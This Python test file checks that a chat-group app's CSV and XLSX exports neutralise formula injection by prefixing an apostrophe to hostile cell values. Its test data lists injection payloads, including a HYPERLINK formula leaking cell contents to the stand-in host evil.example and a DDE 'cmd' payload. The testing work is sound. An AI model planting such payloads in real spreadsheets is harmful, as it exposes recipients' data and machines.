"""Exported spreadsheets hold chat members' words as text: no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from qunyun.services import leads, settlements, spreadsheets

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"点我")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "小明、=1"]


def xlsx_cells(data: bytes) -> tuple[list[str], str]:
    """The sheet's text cells (shared strings) and its XML, as a spreadsheet reads them."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = book.read("xl/sharedStrings.xml").decode() if (
            "xl/sharedStrings.xml" in book.namelist()) else ""
    texts = [re.sub(r"&(amp|quot|lt|gt);", lambda m: {"amp": "&", "quot": '"', "lt": "<",
                                                        "gt": ">"}[m.group(1)], t)
             for t in re.findall(r"<t[^>]*>(.*?)</t>", shared, re.S)]
    texts = [t.replace("_x000D_", "\r") for t in texts]  # how XLSX writes a carriage return
    return texts, sheet


def test_formula_starts_get_an_apostrophe_and_other_values_pass() -> None:
    for text in HOSTILE[:-1]:
        assert spreadsheets.safe_cell(text) == "'" + text
    assert spreadsheets.safe_cell("小明、=1") == "小明、=1"
    assert spreadsheets.safe_cell(-2) == -2 and spreadsheets.safe_cell(1.5) == 1.5
    assert spreadsheets.safe_cell(None) is None


def test_lead_export_csv_and_xlsx_hold_no_formula() -> None:
    rows = [leads.LeadRow(rank=i + 1, member_id=i, number=i + 1, name=name, score=-1.5,
                          phone="138****5678", address="=cmd")
            for i, name in enumerate(HOSTILE)]
    table = list(csv.reader(io.StringIO(leads.render_export(rows, "csv").decode("utf-8-sig"))))
    assert table[0][:3] == ["排名", "会员编号", "昵称"]
    names = [r[2] for r in table[1:]]
    assert names == ["'" + h for h in HOSTILE[:-1]] + ["小明、=1"]
    assert {r[6] for r in table[1:]} == {"'=cmd"}
    assert {r[3] for r in table[1:]} == {"-1.5"}  # numbers stay numbers

    texts, sheet = xlsx_cells(leads.render_export(rows, "xlsx"))
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell anywhere
    assert all("'" + h in texts for h in HOSTILE[:-1]) and "小明、=1" in texts
    assert '<c r="D2" s="0"><v>-1.5</v>' in sheet or "<v>-1.5</v>" in sheet


def test_refund_list_neutralises_names() -> None:
    plan = {"code": "X1", "rows": [{"number": 7, "name": HOSTILE[0], "deposit": 99.0,
                                    "checkins": 5, "percent": 100, "refund": 99.0,
                                    "completed": True}]}
    text = settlements.settlement_csv(plan)
    assert text.startswith("\ufeff活动,会员编号")
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert row[2] == "'" + HOSTILE[0] and row[3] == "99.00"
